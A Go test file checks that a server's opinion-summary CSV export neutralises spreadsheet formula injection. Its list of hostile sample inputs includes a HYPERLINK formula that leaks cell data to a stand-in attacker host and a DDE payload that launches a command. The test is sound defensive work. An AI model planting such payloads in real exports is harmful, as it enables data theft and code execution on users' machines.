package server

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// TestOpinionSummaryCSV_NoFormulas: an opinion
// =HYPERLINK("http://evil.example/?x="&A1,"点击") went verbatim into the
// summary CSV, where a spreadsheet runs it. Every cell that would start a
// formula is now written as text.
func TestOpinionSummaryCSV_NoFormulas(t *testing.T) {
	f := newOpFixture(t, OpinionConfig{RatePerMinute: -1})
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点击")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"}
	for i, text := range evil {
		if code, m := f.post(map[string]any{"article": i + 1, "text": text}); code != http.StatusCreated {
			t.Fatalf("post %q: %d %v", text, code, m)
		}
	}
	w := f.do("GET", fmt.Sprintf("/api/v1/versions/%d/opinions/summary?format=csv", f.version.ID), nil, nil, true)
	if w.Code != http.StatusOK {
		t.Fatalf("summary: %d %s", w.Code, w.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if cell == "" {
				continue
			}
			if strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＝") {
				t.Errorf("cell %q would run as a formula", cell)
			}
			for _, e := range evil {
				if strings.Contains(cell, e) {
					found++
				}
			}
		}
	}
	if found != len(evil) {
		t.Errorf("%d of %d opinions in the CSV (as text)", found, len(evil))
	}
}
